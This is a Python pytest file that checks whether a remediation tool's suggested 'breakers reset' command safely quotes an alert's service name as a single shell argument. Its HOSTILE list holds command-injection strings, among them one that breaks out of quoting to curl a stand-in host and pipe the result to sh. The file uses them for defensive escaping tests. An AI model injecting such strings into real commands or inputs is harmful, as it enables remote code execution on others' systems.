"""A command that people are told to paste holds what an alert said as one argument, whatever it said."""

import shlex

import pytest
from fakes.small_site import RULES, SmallSite, alert

from remediator.core.breaker import BreakerLimits
from remediator.store import breakers, journal

HOSTILE = ["a';curl${IFS}evil.example|sh;'", "a$(id)", "a`id`", "a\\", "a;b", "x&y", "it's"]


@pytest.mark.parametrize("service", HOSTILE)
def test_resetting_a_breaker(tmp_path, service):
    small = SmallSite.of(tmp_path, RULES)
    key = f"target:host/{service} guide:restart"
    for _ in range(5):
        breakers.count(small.tx, key, success=False, limits=BreakerLimits(), now=small.now)
    (work,) = small.admit(alert(service)).works
    advice = journal.view(small.tx, work.run.id).mode_reason
    command = advice[advice.index("remediator breakers reset") :]
    assert shlex.split(command)[:4] == ["remediator", "breakers", "reset", key]
